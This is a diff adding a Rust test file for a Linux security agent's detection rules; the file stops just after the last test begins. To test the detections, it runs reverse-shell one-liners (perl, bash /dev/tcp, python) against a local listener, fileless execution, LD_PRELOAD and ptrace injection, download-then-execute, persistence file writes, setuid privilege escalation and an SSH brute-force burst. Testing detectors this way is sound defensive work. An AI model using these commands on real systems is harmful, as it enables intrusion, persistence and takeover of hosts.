@@ -1,0 +1,1265 @@
+//! Detection (data_type 9000 alerts) end to end: the built-in rules
+//! against the behaviour performed for real on this host, several
+//! variants each, and the benign variants that must stay quiet; the
+//! `kestrel rules` commands; a bad rule file refused at start; SIGHUP
+//! reloading rules without losing the state of unchanged ones.
+//!
+//! Other agents and tests run on the host at the same time: every check
+//! is on an alert whose fields carry this test's marker (in argv, a path,
+//! a pid).
+
+use std::io::{Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::support::sshd::{client_key, Sshd};
+use crate::support::{field, kestrel, marker, Agent};
+use serde_json::Value;
+
+/// The agent with alerts unsuppressed (each variant is its own alert).
+fn agent(extra: &[&str]) -> Agent {
+    let mut args = vec!["--alert-suppress-secs", "0"];
+    args.extend_from_slice(extra);
+    Agent::start(&args)
+}
+
+fn alerts(agent: &Agent, rule: &str) -> Vec<Value> {
+    agent
+        .events()
+        .into_iter()
+        .filter(|e| e["data_type"] == "9000" && e["rule_id"] == rule)
+        .collect()
+}
+
+/// Any field of `e` contains `needle`.
+fn mentions(e: &Value, needle: &str) -> bool {
+    e.as_object()
+        .unwrap()
+        .values()
+        .any(|v| v.as_str().is_some_and(|s| s.contains(needle)))
+}
+
+/// Waits for an alert of `rule` that mentions `needle`.
+fn wait_alert(agent: &Agent, rule: &str, needle: &str) -> Value {
+    let a = agent.wait_for(&format!("alert {rule} mentioning {needle}"), |e| {
+        e["data_type"] == "9000" && e["rule_id"] == rule && mentions(e, needle)
+    });
+    // Every value a string, the issue's fields present.
+    for f in [
+        "alert_id",
+        "rule_id",
+        "rule_name",
+        "severity",
+        "mitre_technique",
+        "source",
+        "description",
+        "trigger_event_ids",
+        "suppressed",
+        "hostname",
+        "event_id",
+    ] {
+        field(&a, f);
+    }
+    assert!(a.as_object().unwrap().values().all(Value::is_string), "{a}");
+    assert_eq!(field(&a, "source"), "builtin");
+    a
+}
+
+/// No alert of `rule` mentions `needle` (checked after a later variant's
+/// alert arrived, plus the time delayed file events take).
+fn assert_quiet(agent: &Agent, rule: &str, needle: &str) {
+    std::thread::sleep(Duration::from_millis(1500));
+    let bad: Vec<_> = alerts(agent, rule)
+        .into_iter()
+        .filter(|a| mentions(a, needle))
+        .collect();
+    assert!(
+        bad.is_empty(),
+        "{rule} fired on the benign {needle}: {bad:?}"
+    );
+}
+
+/// The trigger events of an alert, from the agent's stream.
+fn triggers(agent: &Agent, alert: &Value) -> Vec<Value> {
+    let ids: Vec<String> = field(alert, "trigger_event_ids")
+        .split(',')
+        .map(String::from)
+        .collect();
+    let evs = agent.events();
+    ids.iter()
+        .map(|id| {
+            evs.iter()
+                .find(|e| e["event_id"].as_str() == Some(id))
+                .unwrap_or_else(|| panic!("trigger {id} not in the stream"))
+                .clone()
+        })
+        .collect()
+}
+
+/// Waits for an alert of `rule` about process `pid`.
+fn wait_pid_alert(agent: &Agent, rule: &str, pid: u32) -> Value {
+    let pid = pid.to_string();
+    agent.wait_for(&format!("alert {rule} for process {pid}"), |e| {
+        e["data_type"] == "9000" && e["rule_id"] == rule && e["tgid"].as_str() == Some(pid.as_str())
+    })
+}
+
+fn scratch(tag: &str) -> PathBuf {
+    let d = std::env::temp_dir().join(marker(tag));
+    std::fs::create_dir_all(&d).unwrap();
+    d
+}
+
+fn sh(script: &str) -> std::process::ExitStatus {
+    Command::new("sh")
+        .args(["-c", script])
+        .stdin(Stdio::null())
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap()
+}
+
+fn copy_exec(from: &str, to: &Path) {
+    std::fs::copy(from, to).unwrap();
+    std::fs::set_permissions(to, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// A TCP listener on 127.0.0.1 that sends `commands` to whoever connects
+/// and reads what comes back (a reverse shell's operator).
+fn operator(commands: &'static str) -> (u16, std::thread::JoinHandle<String>) {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let h = std::thread::spawn(move || {
+        let (mut c, _) = l.accept().unwrap();
+        c.set_read_timeout(Some(Duration::from_secs(10))).unwrap();
+        c.write_all(commands.as_bytes()).unwrap();
+        let mut out = String::new();
+        let _ = c.read_to_string(&mut out);
+        out
+    });
+    (port, h)
+}
+
+#[test]
+fn reverse_shells_alert_and_ssh_sessions_and_pipes_do_not() {
+    let d = scratch("revsh");
+    let rule = "kestrel.execution.reverse_shell_socket_stdio";
+    let agent = agent(&[]);
+    let m = marker("rs");
+
+    // Benign first: a shell reading a local pipe.
+    let pipe_mark = format!("{m}-pipe");
+    sh(&format!("echo 'echo {pipe_mark}' | sh"));
+    // An ssh session running a command.
+    let sshd_dir = scratch("revsh-sshd");
+    let key = client_key(&sshd_dir);
+    let sshd = Sshd::start(&sshd_dir, None);
+    sshd.key_login(&key);
+
+    // 1. perl: a socket dup'ed onto 0 and 1, then exec of /bin/sh.
+    let (port, op) = operator("echo hi; exit\n");
+    let perl_mark = format!("{m}-perl");
+    Command::new("perl")
+        .args([
+            "-e",
+            &format!(
+                "use Socket; socket(S,PF_INET,SOCK_STREAM,0) or die; \
+                 connect(S,pack_sockaddr_in({port},inet_aton('127.0.0.1'))) or die; \
+                 open(STDIN,'<&S'); open(STDOUT,'>&S'); exec('/bin/sh','-c','read l; eval $l # {perl_mark}');"
+            ),
+        ])
+        .status()
+        .unwrap();
+    op.join().unwrap();
+    wait_alert(&agent, rule, &perl_mark);
+
+    // 2. bash's /dev/tcp, the usual one-liner.
+    let (port, op) = operator("exit\n");
+    let bash_mark = format!("{m}-bash");
+    Command::new("bash")
+        .args([
+            "-c",
+            &format!("bash -i >& /dev/tcp/127.0.0.1/{port} 0>&1 # {bash_mark}"),
+        ])
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
+    op.join().unwrap();
+    // The inner bash's argv is "bash -i": found by its parent's marker.
+    let a = agent.wait_for("the /dev/tcp reverse shell's alert", |e| {
+        e["data_type"] == "9000"
+            && e["rule_id"] == rule
+            && e["argv"] == "bash -i"
+            && agent.events().iter().any(|x| {
+                x["data_type"] == "59"
+                    && x["tgid"] == e["ppid"]
+                    && x["argv"].as_str().is_some_and(|s| s.contains(&bash_mark))
+            })
+    });
+    assert_eq!(field(&a, "mitre_technique"), "T1059.004");
+
+    // 3. python: dup2 onto 0-2, then a renamed shell whose commands are
+    // seen by their socket holder: the copy of dash called "kworker".
+    let kworker = d.join("kworker");
+    copy_exec("/bin/dash", &kworker);
+    let (port, op) = operator("/usr/bin/id\nexit\n");
+    Command::new("python3")
+        .args([
+            "-c",
+            &format!(
+                "import socket,os; s=socket.create_connection(('127.0.0.1',{port})); \
+                 [os.dup2(s.fileno(),f) for f in (0,1,2)]; os.execv('{}',['kworker'])",
+                kworker.display()
+            ),
+        ])
+        .status()
+        .unwrap();
+    op.join().unwrap();
+    // The id run under it: its socket holder is the renamed shell.
+    agent.wait_for("the renamed shell's command", |e| {
+        e["data_type"] == "9000"
+            && e["rule_id"] == rule
+            && e["exe"] == "/usr/bin/id"
+            && e["pid_tree"]
+                .as_str()
+                .is_some_and(|t| t.contains("(kworker)"))
+    });
+
+    assert_quiet(&agent, rule, &pipe_mark);
+    let sshd_pid = format!("({})->", sshd.pid());
+    let from_ssh: Vec<_> = alerts(&agent, rule)
+        .into_iter()
+        .filter(|a| {
+            a["pid_tree"].as_str().is_some_and(|t| {
+                t.contains(&format!("->{}(sshd)", sshd.pid())) || t.contains(&sshd_pid)
+            })
+        })
+        .collect();
+    assert!(from_ssh.is_empty(), "an ssh session alerted: {from_ssh:?}");
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+    let _ = std::fs::remove_dir_all(sshd_dir);
+}
+
+#[test]
+fn services_spawning_shells() {
+    let d = scratch("websh");
+    let rule = "kestrel.execution.service_spawned_shell";
+    let agent = agent(&[]);
+    let m = marker("ws");
+    // Programs named as the services are (the kernel knows them by that
+    // name): perl copies that run what an injected command would.
+    for (svc, shell) in [
+        ("nginx", "/bin/sh"),
+        ("redis-server", "/bin/bash"),
+        ("php-fpm8.2", "/bin/dash"),
+    ] {
+        let p = d.join(svc);
+        copy_exec("/usr/bin/perl", &p);
+        // Benign: the service re-executing itself (a worker, an upgrade).
+        Command::new(&p)
+            .args([
+                "-e",
+                &format!("exec('{}', '-e', 'exit 0 # {m}-{svc}-reexec')", p.display()),
+            ])
+            .status()
+            .unwrap();
+        Command::new(&p)
+            .args([
+                "-e",
+                &format!("system('{shell}', '-c', 'true # {m}-{svc}')"),
+            ])
+            .status()
+            .unwrap();
+        let a = wait_alert(&agent, rule, &format!("{m}-{svc}"));
+        assert!(field(&a, "mitre_technique").contains("T1505.003"));
+        assert!(field(&a, "pid_tree").contains(&format!("({svc})->")));
+    }
+    for svc in ["nginx", "redis-server", "php-fpm8.2"] {
+        assert_quiet(&agent, rule, &format!("{m}-{svc}-reexec"));
+    }
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn fileless_executions() {
+    let d = scratch("fileless");
+    let rule = "kestrel.execution.fileless";
+    let agent = agent(&[]);
+    let m = marker("fl");
+    // Benign: the same program from its file.
+    Command::new("/usr/bin/true")
+        .arg(format!("{m}-disk"))
+        .status()
+        .unwrap();
+    // A memfd.
+    Command::new("python3")
+        .args([
+            "-c",
+            &format!(
+                "import os; fd=os.memfd_create('x'); os.write(fd, open('/usr/bin/true','rb').read()); \
+                 os.execv('/proc/self/fd/%d' % fd, ['t', '{m}-memfd'])"
+            ),
+        ])
+        .status()
+        .unwrap();
+    wait_alert(&agent, rule, &format!("{m}-memfd"));
+    // A file deleted before its exec, run through a descriptor.
+    let del = d.join("gone");
+    copy_exec("/usr/bin/true", &del);
+    Command::new("python3")
+        .args([
+            "-c",
+            &format!(
+                "import os; fd=os.open('{}', os.O_RDONLY); os.unlink('{}'); \
+                 os.execv('/proc/self/fd/%d' % fd, ['t', '{m}-deleted'])",
+                del.display(),
+                del.display()
+            ),
+        ])
+        .status()
+        .unwrap();
+    let a = wait_alert(&agent, rule, &format!("{m}-deleted"));
+    assert_eq!(field(&a, "mitre_technique"), "T1620");
+    // From /dev/shm.
+    let shm = PathBuf::from(format!("/dev/shm/{m}"));
+    copy_exec("/usr/bin/true", &shm);
+    Command::new(&shm).arg(format!("{m}-shm")).status().unwrap();
+    wait_alert(&agent, rule, &format!("{m}-shm"));
+    let _ = std::fs::remove_file(&shm);
+    assert_quiet(&agent, rule, &format!("{m}-disk"));
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn ld_preload_outside_system_dirs_and_ld_so_preload() {
+    let d = scratch("preload");
+    let rule = "kestrel.execution.ld_preload";
+    let agent = agent(&[]);
+    let m = marker("lp");
+    let libc = [
+        "/usr/lib/x86_64-linux-gnu/libc.so.6",
+        "/lib/x86_64-linux-gnu/libc.so.6",
+    ]
+    .into_iter()
+    .find(|p| Path::new(p).exists())
+    .unwrap();
+    let run = |preload: &str, tag: &str| {
+        Command::new("/usr/bin/true")
+            .arg(format!("{m}-{tag}"))
+            .env("LD_PRELOAD", preload)
+            .stderr(Stdio::null())
+            .status()
+            .unwrap();
+    };
+    // Benign: a system library.
+    run(libc, "system");
+    let evil = d.join("libevil.so");
+    std::fs::write(&evil, b"not a library").unwrap();
+    run(&evil.display().to_string(), "tmp");
+    // A system library first, the payload after it.
+    run(&format!("{libc}:{}", evil.display()), "list");
+    // Climbing out of a system directory.
+    run("/usr/lib/../../tmp/libevil.so", "dotdot");
+    for tag in ["tmp", "list", "dotdot"] {
+        let a = wait_alert(&agent, rule, &format!("{m}-{tag}"));
+        assert_eq!(field(&a, "mitre_technique"), "T1574.006");
+    }
+    assert_quiet(&agent, rule, &format!("{m}-system"));
+
+    // /etc/ld.so.preload created (empty: it preloads nothing, so the
+    // host's other programs are not touched).
+    let f = Path::new("/etc/ld.so.preload");
+    if !f.exists() {
+        std::fs::write(f, b"").unwrap();
+        let a = wait_alert(&agent, "kestrel.execution.ld_so_preload_file", "");
+        std::fs::remove_file(f).unwrap();
+        assert_eq!(field(&a, "severity"), "critical");
+    }
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn ptrace_by_programs_that_are_not_debuggers() {
+    let d = scratch("ptrace");
+    let rule = "kestrel.privilege_escalation.ptrace_non_debugger";
+    let agent = agent(&[]);
+    let m = marker("pt");
+    // The debuggers first: strace and gdb attach by design.
+    let mut victim = Command::new("sleep").arg("30").spawn().unwrap();
+    let vpid = victim.id();
+    Command::new("strace")
+        .args([
+            "-o",
+            "/dev/null",
+            "-e",
+            "trace=none",
+            "/usr/bin/true",
+            &format!("{m}-strace"),
+        ])
+        .status()
+        .unwrap();
+    Command::new("gdb")
+        .args(["-batch", "-nx", "-p", &vpid.to_string(), "-ex", "detach"])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
+    // An injector: copies of perl under names of their own, each doing
+    // another request. ATTACH (16), SEIZE (16902), and POKEDATA (5)
+    // after an attach.
+    for (name, code) in [
+        (
+            "inj-attach",
+            format!("syscall(101, 16, {vpid}, 0, 0); sleep 1; syscall(101, 17, {vpid}, 0, 0);"),
+        ),
+        (
+            "inj-seize",
+            format!("syscall(101, 16902, {vpid}, 0, 0); syscall(101, 17, {vpid}, 0, 0);"),
+        ),
+        (
+            "inj-poke",
+            format!(
+                "syscall(101, 16, {vpid}, 0, 0); sleep 1; syscall(101, 5, {vpid}, 0x1000, 0x41); \
+                 syscall(101, 17, {vpid}, 0, 0);"
+            ),
+        ),
+    ] {
+        let p = d.join(name);
+        copy_exec("/usr/bin/perl", &p);
+        Command::new(&p).args(["-e", &code]).status().unwrap();
+        let a = wait_alert(&agent, rule, &p.display().to_string());
+        assert_eq!(field(&a, "mitre_technique"), "T1055.008");
+    }
+    std::thread::sleep(Duration::from_secs(1));
+    let bad: Vec<_> = alerts(&agent, rule)
+        .into_iter()
+        .filter(|a| a["exe"] == "/usr/bin/strace" || a["exe"] == "/usr/bin/gdb")
+        .collect();
+    assert!(bad.is_empty(), "a debugger alerted: {bad:?}");
+    // The debuggers did make ptrace events (the benign case is real).
+    assert!(agent
+        .events()
+        .iter()
+        .any(|e| e["data_type"] == "101" && e["exe"] == "/usr/bin/gdb"));
+    let _ = victim.kill();
+    let _ = victim.wait();
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+/// A one-file HTTP server on 127.0.0.1 serving `body` for any path.
+fn http_server(body: Vec<u8>, requests: usize) -> u16 {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    std::thread::spawn(move || {
+        for _ in 0..requests {
+            let Ok((mut c, _)) = l.accept() else { return };
+            let mut buf = [0u8; 4096];
+            let _ = c.read(&mut buf);
+            let _ = c.write_all(
+                format!(
+                    "HTTP/1.0 200 OK\r\nContent-Length: {}\r\nContent-Type: application/octet-stream\r\n\r\n",
+                    body.len()
+                )
+                .as_bytes(),
+            );
+            let _ = c.write_all(&body);
+        }
+    });
+    port
+}
+
+#[test]
+fn downloaded_or_dropped_files_executed() {
+    let rule = "kestrel.execution.download_then_exec";
+    // Downloads land outside the temporary directories: the tool is what
+    // counts there.
+    let dl = PathBuf::from(format!("/root/{}", marker("dl")));
+    std::fs::create_dir_all(&dl).unwrap();
+    let tmp = scratch("drop");
+    let agent = agent(&[]);
+    let port = http_server(std::fs::read("/usr/bin/true").unwrap(), 3);
+    let url = format!("http://127.0.0.1:{port}/x");
+    let fetch = [
+        (
+            "curl",
+            vec!["curl".to_string(), "-s".into(), "-o".into()],
+            "curl",
+        ),
+        (
+            "wget",
+            vec!["wget".to_string(), "-q".into(), "-O".into()],
+            "wget",
+        ),
+    ];
+    for (tag, cmd, _) in &fetch {
+        let out = dl.join(format!("{tag}-payload"));
+        let mut c = Command::new(&cmd[0]);
+        c.args(&cmd[1..]).arg(&out).arg(&url);
+        assert!(c.status().unwrap().success(), "{tag} failed");
+        std::fs::set_permissions(&out, std::fs::Permissions::from_mode(0o755)).unwrap();
+        Command::new(&out).status().unwrap();
+        let a = wait_alert(&agent, rule, &out.display().to_string());
+        let t = triggers(&agent, &a);
+        assert_eq!(t[0]["data_type"], "602");
+        assert_eq!(t[1]["data_type"], "59");
+    }
+    // An interpreter writing it.
+    let py = dl.join("py-payload");
+    Command::new("python3")
+        .args([
+            "-c",
+            &format!(
+                "import urllib.request,os; open('{0}','wb').write(urllib.request.urlopen('{url}').read()); os.chmod('{0}',0o755)",
+                py.display()
+            ),
+        ])
+        .status()
+        .unwrap();
+    Command::new(&py).status().unwrap();
+    wait_alert(&agent, rule, &py.display().to_string());
+    // Copied into /tmp by any program, and a script run by its path.
+    let dropped = tmp.join("dropped");
+    Command::new("cp")
+        .arg("/usr/bin/true")
+        .arg(&dropped)
+        .status()
+        .unwrap();
+    Command::new(&dropped).status().unwrap();
+    wait_alert(&agent, rule, &dropped.display().to_string());
+    let script = tmp.join("run.sh");
+    sh(&format!(
+        "printf '#!/bin/sh\\ntrue\\n' > {0}; chmod +x {0}; {0}",
+        script.display()
+    ));
+    wait_alert(&agent, rule, &script.display().to_string());
+
+    // Benign: a build linking into /tmp, and a file copied outside the
+    // temporary directories.
+    let src = tmp.join("hello.c");
+    std::fs::write(&src, "int main(void){return 0;}\n").unwrap();
+    let built = tmp.join("hello");
+    assert!(Command::new("cc")
+        .arg(&src)
+        .arg("-o")
+        .arg(&built)
+        .status()
+        .unwrap()
+        .success());
+    Command::new(&built).status().unwrap();
+    let local = dl.join("local-copy");
+    Command::new("cp")
+        .arg("/usr/bin/true")
+        .arg(&local)
+        .status()
+        .unwrap();
+    Command::new(&local).status().unwrap();
+    assert_quiet(&agent, rule, &built.display().to_string());
+    assert_quiet(&agent, rule, &local.display().to_string());
+    agent.stop();
+    let _ = std::fs::remove_dir_all(dl);
+    let _ = std::fs::remove_dir_all(tmp);
+}
+
+/// A .deb holding `files` (path, content), built with dpkg-deb.
+fn build_deb(dir: &Path, name: &str, files: &[(&str, &str)]) -> PathBuf {
+    let root = dir.join(format!("{name}-root"));
+    std::fs::create_dir_all(root.join("DEBIAN")).unwrap();
+    std::fs::write(
+        root.join("DEBIAN/control"),
+        format!(
+            "Package: {name}\nVersion: 1.0\nArchitecture: all\nMaintainer: kestrel tests <t@example.org>\nDescription: test package\n"
+        ),
+    )
+    .unwrap();
+    for (p, content) in files {
+        let f = root.join(p.trim_start_matches('/'));
+        std::fs::create_dir_all(f.parent().unwrap()).unwrap();
+        std::fs::write(f, content).unwrap();
+    }
+    let deb = dir.join(format!("{name}.deb"));
+    assert!(Command::new("dpkg-deb")
+        .args(["--build", "--root-owner-group"])
+        .arg(&root)
+        .arg(&deb)
+        .stdout(Stdio::null())
+        .status()
+        .unwrap()
+        .success());
+    deb
+}
+
+#[test]
+fn persistence_files_and_the_package_manager() {
+    let d = scratch("persist");
+    let agent = agent(&[]);
+    let m = marker("ps");
+    let tag: String = m.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
+    // Benign: dpkg installing its own cron file.
+    let pkg = format!("kestrel-test-{}", &tag[tag.len() - 12..]);
+    let pkg_cron = format!("/etc/cron.d/{pkg}");
+    let deb = build_deb(&d, &pkg, &[(&pkg_cron, "# kestrel test package\n")]);
+    assert!(Command::new("dpkg")
+        .arg("-i")
+        .arg(&deb)
+        .stdout(Stdio::null())
+        .status()
+        .unwrap()
+        .success());
+
+    let cron = format!("/etc/cron.d/kestrel-test-{tag}");
+    let unit = format!("/etc/systemd/system/kestrel-test-{tag}.service");
+    let init = format!("/etc/init.d/kestrel-test-{tag}");
+    let profile = format!("/etc/profile.d/kestrel-test-{tag}.sh");
+    let home = d.join("home/user");
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    let bashrc = home.join(".bashrc");
+    let keys = home.join(".ssh/authorized_keys");
+    // Written by different programs: a shell redirection, cp, python.
+    sh(&format!("echo '# kestrel test' > {cron}"));
+    std::fs::write(d.join("unit"), "[Unit]\nDescription=kestrel test\n").unwrap();
+    Command::new("cp")
+        .arg(d.join("unit"))
+        .arg(&unit)
+        .status()
+        .unwrap();
+    Command::new("python3")
+        .args(["-c", &format!("open('{init}','w').write('#!/bin/sh\\n')")])
+        .status()
+        .unwrap();
+    sh(&format!("echo '# kestrel test' > {profile}"));
+    sh(&format!("echo 'echo hi' >> {}", bashrc.display()));
+    Command::new("python3")
+        .args([
+            "-c",
+            &format!(
+                "open('{}','w').write('ssh-ed25519 AAAA test')",
+                keys.display()
+            ),
+        ])
+        .status()
+        .unwrap();
+    for (rule, path, tech) in [
+        ("kestrel.persistence.cron", cron.clone(), "T1053.003"),
+        (
+            "kestrel.persistence.systemd_unit",
+            unit.clone(),
+            "T1543.002",
+        ),
+        ("kestrel.persistence.init_script", init.clone(), "T1037.004"),
+        (
+            "kestrel.persistence.shell_profile",
+            profile.clone(),
+            "T1546.004",
+        ),
+        (
+            "kestrel.persistence.shell_profile",
+            bashrc.display().to_string(),
+            "T1546.004",
+        ),
+        (
+            "kestrel.persistence.authorized_keys",
+            keys.display().to_string(),
+            "T1098.004",
+        ),
+    ] {
+        let a = agent.wait_for(&format!("{rule} for {path}"), |e| {
+            e["data_type"] == "9000"
+                && e["rule_id"] == rule
+                && triggers(&agent, e)
+                    .iter()
+                    .any(|t| t["file_path"].as_str() == Some(path.as_str()))
+        });
+        assert_eq!(field(&a, "mitre_technique"), tech);
+    }
+    // dpkg's own file (written as .dpkg-new, then renamed) made no alert.
+    std::thread::sleep(Duration::from_millis(1500));
+    let pkg_alerts: Vec<_> = alerts(&agent, "kestrel.persistence.cron")
+        .into_iter()
+        .filter(|a| {
+            triggers(&agent, a)
+                .iter()
+                .any(|t| t["file_path"].as_str().is_some_and(|p| p.contains(&pkg)))
+        })
+        .collect();
+    assert!(
+        pkg_alerts.is_empty(),
+        "dpkg's own files alerted: {pkg_alerts:?}"
+    );
+    assert!(
+        agent.events().iter().any(|e| e["data_type"] == "602"
+            && e["exe"] == "/usr/bin/dpkg"
+            && e["file_path"].as_str().is_some_and(|p| p.contains(&pkg))),
+        "dpkg's creation was not even seen"
+    );
+    agent.stop();
+    for p in [&cron, &unit, &init, &profile] {
+        let _ = std::fs::remove_file(p);
+    }
+    Command::new("dpkg")
+        .args(["-P", &pkg])
+        .stdout(Stdio::null())
+        .status()
+        .unwrap();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn privilege_escalation_without_an_allowlisted_exec() {
+    let d = scratch("privesc");
+    std::fs::set_permissions(&d, std::fs::Permissions::from_mode(0o755)).unwrap();
+    let rule = "kestrel.privilege_escalation.made_root";
+    let agent = agent(&[]);
+    // Benign: passwd, setuid root by design, run by an unprivileged user.
+    Command::new("setpriv")
+        .args([
+            "--reuid=65534",
+            "--regid=65534",
+            "--clear-groups",
+            "/usr/bin/passwd",
+            "-S",
+        ])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .unwrap();
+    // 1. A planted setuid-root copy of perl, run by nobody.
+    let suid = d.join("suidperl");
+    copy_exec("/usr/bin/perl", &suid);
+    std::fs::set_permissions(&suid, std::fs::Permissions::from_mode(0o4755)).unwrap();
+    let mut child = Command::new("setpriv")
+        .args(["--reuid=65534", "--regid=65534", "--clear-groups"])
+        .arg(&suid)
+        .args(["-e", "exit 0"])
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    child.wait().unwrap();
+    let a = wait_pid_alert(&agent, rule, pid);
+    assert_eq!(field(&a, "mitre_technique"), "T1068");
+    // 2. A process that dropped to nobody keeping root saved (seen so by
+    // its connect), then took root back with setresuid (117) and
+    // connected again: no exec at all.
+    let back = d.join("regain");
+    copy_exec("/usr/bin/perl", &back);
+    let mut child = Command::new(&back)
+        .args([
+            "-e",
+            "use Socket; sub c { socket(my $s,PF_INET,SOCK_STREAM,0); connect($s,pack_sockaddr_in(1,inet_aton('127.0.0.1'))); } \
+             syscall(117, 65534, 65534, 0) == 0 or die; c(); syscall(117, 0, 0, 0) == 0 or die; c();",
+        ])
+        .spawn()
+        .unwrap();
+    let pid = child.id();
+    assert!(child.wait().unwrap().success());
+    wait_pid_alert(&agent, rule, pid);
+    std::thread::sleep(Duration::from_secs(1));
+    assert!(
+        agent
+            .events()
+            .iter()
+            .any(|e| e["data_type"] == "604" && e["filename"] == "/usr/bin/passwd"),
+        "passwd made no credential change event (the benign case did not happen)"
+    );
+    assert_quiet(&agent, rule, "/usr/bin/passwd");
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn ssh_brute_force_then_success() {
+    let d = scratch("brute");
+    let key = client_key(&d);
+    let log = d.join("sshd.log");
+    let sshd = Sshd::start(&d, Some(&log));
+    let state = d.join("state");
+    let agent = agent(&[
+        "--auth-log",
+        &log.display().to_string(),
+        "--login-journal",
+        "off",
+        "--state-dir",
+        &state.display().to_string(),
+    ]);
+    let burst = "kestrel.credential_access.ssh_brute_force";
+    let success = "kestrel.credential_access.ssh_brute_force_success";
+    // Benign: one mistyped password, then the right key.
+    sshd.wrong_password("root");
+    sshd.key_login(&key);
+    agent.wait_for("the first success", |e| {
+        e["data_type"] == "1001" && e["status"] == "Success"
+    });
+    std::thread::sleep(Duration::from_secs(1));
+    assert!(alerts(&agent, burst).is_empty() && alerts(&agent, success).is_empty());
+    // Ten failures within a minute, then a success from the same source.
+    let start = Instant::now();
+    for _ in 0..10 {
+        sshd.wrong_password("root");
+    }
+    assert!(
+        start.elapsed() < Duration::from_secs(50),
+        "the burst took too long"
+    );
+    let a = agent.wait_for("the burst's alert", |e| {
+        e["data_type"] == "9000" && e["rule_id"] == burst
+    });
+    assert_eq!(field(&a, "mitre_technique"), "T1110.001");
+    assert_eq!(field(&a, "severity"), "medium");
+    sshd.key_login(&key);
+    let a = agent.wait_for("the burst-then-success alert", |e| {
+        e["data_type"] == "9000" && e["rule_id"] == success
+    });
+    assert_eq!(field(&a, "severity"), "critical");
+    let t = triggers(&agent, &a);
+    assert!(t.len() >= 11, "{t:?}");
+    assert_eq!(t.last().unwrap()["status"], "Success");
+    assert!(t.iter().all(|e| e["from_ip"] == "127.0.0.1"));
+    agent.stop();
+    drop(sshd);
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn crypto_mining_command_lines_pool_dns_and_stratum_ports() {
+    let d = scratch("mining");
+    let agent = agent(&[]);
+    let m = marker("mn");
+    // Whatever the miner is called: a copy of true under a bland name.
+    let miner = d.join("systemd-helper");
+    copy_exec("/usr/bin/true", &miner);
+    for (i, args) in [
+        vec!["-o", "stratum+tcp://pool.example.net:3333", "-u", "wallet"],
+        vec![
+            "--url",
+            "pool.example.net:443",
+            "--donate-level=1",
+            "--threads",
+            "2",
+        ],
+        vec!["-a", "rx/0", "-o", "pool.example.net:80"],
+        vec!["--algo", "kawpow", "--pool", "stratum+ssl://x.example:4444"],
+    ]
+    .into_iter()
+    .enumerate()
+    {
+        Command::new(&miner)
+            .args(&args)
+            .arg(format!("{m}-{i}"))
+            .status()
+            .unwrap();
+        let a = wait_alert(
+            &agent,
+            "kestrel.impact.miner_command_line",
+            &format!("{m}-{i}"),
+        );
+        assert_eq!(field(&a, "mitre_technique"), "T1496");
+    }
+    // Benign command line mentioning a pool of another kind.
+    Command::new(&miner)
+        .args(["--pool-size", "4", &format!("{m}-benign")])
+        .status()
+        .unwrap();
+
+    // Connections to stratum ports (refused: nothing listens there).
+    for port in [3333u16, 14444] {
+        Command::new("perl")
+            .args([
+                "-e",
+                &format!(
+                    "use Socket; socket(S,PF_INET,SOCK_STREAM,0); connect(S,pack_sockaddr_in({port},inet_aton('127.0.0.1'))); # {m}"
+                ),
+            ])
+            .status()
+            .unwrap();
+        agent.wait_for(&format!("the stratum port {port} alert"), |e| {
+            e["data_type"] == "9000"
+                && e["rule_id"] == "kestrel.impact.stratum_port_connect"
+                && triggers(&agent, e)
+                    .iter()
+                    .any(|t| t["dport"] == port.to_string().as_str() && t["dip"] == "127.0.0.1")
+        });
+    }
+
+    // DNS answers for pool domains, from a responder on 127.0.0.9:53.
+    let resp = UdpSocket::bind("127.0.0.9:53").unwrap();
+    resp.set_read_timeout(Some(Duration::from_secs(10)))
+        .unwrap();
+    let tag: String = m.chars().filter(|c| c.is_ascii_alphanumeric()).collect();
+    for name in [
+        format!("x{}.supportxmr.com", &tag[tag.len() - 10..]),
+        format!("GULF{}.MoneroOcean.stream", &tag[tag.len() - 10..]),
+        "xmr.pool.minergate.com".to_string(),
+    ] {
+        let client = UdpSocket::bind("127.0.0.1:0").unwrap();
+        client
+            .send_to(
+                &kestrel_decode::dns::build::message(7, 0x0100, &name, 1),
+                "127.0.0.9:53",
+            )
+            .unwrap();
+        let mut buf = [0u8; 512];
+        let (_, peer) = resp.recv_from(&mut buf).unwrap();
+        resp.send_to(
+            &kestrel_decode::dns::build::message(7, 0x8180, &name, 1),
+            peer,
+        )
+        .unwrap();
+        client
+            .set_read_timeout(Some(Duration::from_secs(5)))
+            .unwrap();
+        client.recv_from(&mut buf).unwrap();
+        agent.wait_for(&format!("the pool DNS alert for {name}"), |e| {
+            e["data_type"] == "9000"
+                && e["rule_id"] == "kestrel.impact.mining_pool_dns"
+                && triggers(&agent, e)
+                    .iter()
+                    .any(|t| t["query"].as_str() == Some(name.as_str()))
+        });
+    }
+    assert_quiet(
+        &agent,
+        "kestrel.impact.miner_command_line",
+        &format!("{m}-benign"),
+    );
+    agent.stop();
+    let _ = std::fs::remove_dir_all(d);
+}
+
+#[test]
+fn outbound_connection_then_shell_within_five_seconds() {
